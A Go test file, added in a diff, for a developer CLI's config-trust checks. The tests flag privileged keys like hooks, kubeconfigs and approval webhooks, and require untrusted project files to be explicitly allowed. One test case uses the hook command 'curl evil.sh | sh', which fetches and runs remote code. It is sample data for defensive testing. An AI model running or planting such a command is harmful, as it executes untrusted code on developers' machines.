@@ -0,0 +1,80 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"testing"
+)
+
+func TestPrivilegedKeys(t *testing.T) {
+	config := Config{
+		Proxies: []ProxyConfig{
+			{Environment: "staging", Hooks: Hooks{PreStart: []Hook{{Command: "make migrate"}}}, Sync: []SyncItem{{}}},
+			{Environment: "production", Workloads: []Workload{{App: "cashfree"}}},
+		},
+		CloudLogging: CloudLogging{Project: "okcredit-platform"},
+	}
+	keys := privilegedKeys(config)
+	if !slices.Equal(keys, []string{"proxies[staging].hooks", "proxies[staging].sync", "cloud_logging"}) {
+		t.Errorf("privilegedKeys failed: unexpected keys %q", keys)
+	}
+	if keys := privilegedKeys(Config{Proxies: config.Proxies[1:]}); len(keys) != 0 {
+		t.Errorf("privilegedKeys failed: expected no keys for tunnels only, got %q", keys)
+	}
+}
+
+func TestPrivilegedKeysCredentials(t *testing.T) {
+	for _, tc := range []struct {
+		config   Config
+		expected string
+	}{
+		{Config{Profiles: []Profile{{Name: "payments", Hooks: Hooks{PostStart: []Hook{{Command: "curl evil.sh | sh"}}}}}}, "profiles[payments].hooks"},
+		{Config{Proxies: []ProxyConfig{{Environment: "production", Approval: Approval{URL: "https://approvals.example.com"}}}}, "proxies[production].approval"},
+		{Config{Proxies: []ProxyConfig{{Environment: "production", Approval: Approval{SlackWebhook: "https://hooks.slack.com/services/T0/B0/x"}}}}, "proxies[production].approval"},
+		{Config{Cloud: CloudConfig{Kubeconfig: "kubeconfig.yaml"}}, "cloud.kubeconfig"},
+		{Config{Cloud: CloudConfig{Kubeconfigs: []string{"clusters.yaml"}}}, "cloud.kubeconfigs"},
+		{Config{Proxies: []ProxyConfig{{Environment: "staging", Kubeconfigs: []string{"staging.yaml"}}}}, "proxies[staging].kubeconfigs"},
+		{Config{Cloud: CloudConfig{Gcloudconfig: "attacker"}}, "cloud.gcloudconfig"},
+	} {
+		if keys := privilegedKeys(tc.config); !slices.Equal(keys, []string{tc.expected}) {
+			t.Errorf("privilegedKeys failed: expected %q, got %q", tc.expected, keys)
+		}
+	}
+}
+
+func TestCheckConfigTrust(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	path := filepath.Join(t.TempDir(), projectConfigName)
+	data := []byte("reporting:\n  url: https://collector.example.com\n")
+	config := Config{Reporting: Reporting{URL: "https://collector.example.com"}}
+
+	err := checkConfigTrust(path, data, config)
+	if err == nil || !strings.Contains(err.Error(), "devcli allow") {
+		t.Errorf("checkConfigTrust failed: expected an untrusted project file to be rejected, got %v", err)
+	}
+	if err := checkConfigTrust(filepath.Join(filepath.Dir(path), "config.yaml"), data, config); err != nil {
+		t.Errorf("checkConfigTrust failed: expected the user's own file to be accepted, got %v", err)
+	}
+	if err := checkConfigTrust(path, []byte("proxies: []\n"), Config{}); err != nil {
+		t.Errorf("checkConfigTrust failed: expected a project file without privileged keys to be accepted, got %v", err)
+	}
+
+	if err := os.WriteFile(path, data, 0o644); err != nil {
+		t.Fatalf("Error writing the project file: %v", err)
+	}
+	runAllow("allow", []string{path})
+	if err := checkConfigTrust(path, data, config); err != nil {
+		t.Errorf("checkConfigTrust failed: expected the allowed file to be accepted, got %v", err)
+	}
+	// a change to the file needs it to be allowed again
+	changed := append(data, []byte("  bigquery: okcredit.devcli.sessions\n")...)
+	if err := checkConfigTrust(path, changed, config); err == nil {
+		t.Error("checkConfigTrust failed: expected the changed file to be rejected")
+	}
+	runAllow("deny", []string{path})
+	if err := checkConfigTrust(path, data, config); err == nil {
+		t.Error("checkConfigTrust failed: expected the denied file to be rejected")
+	}
+}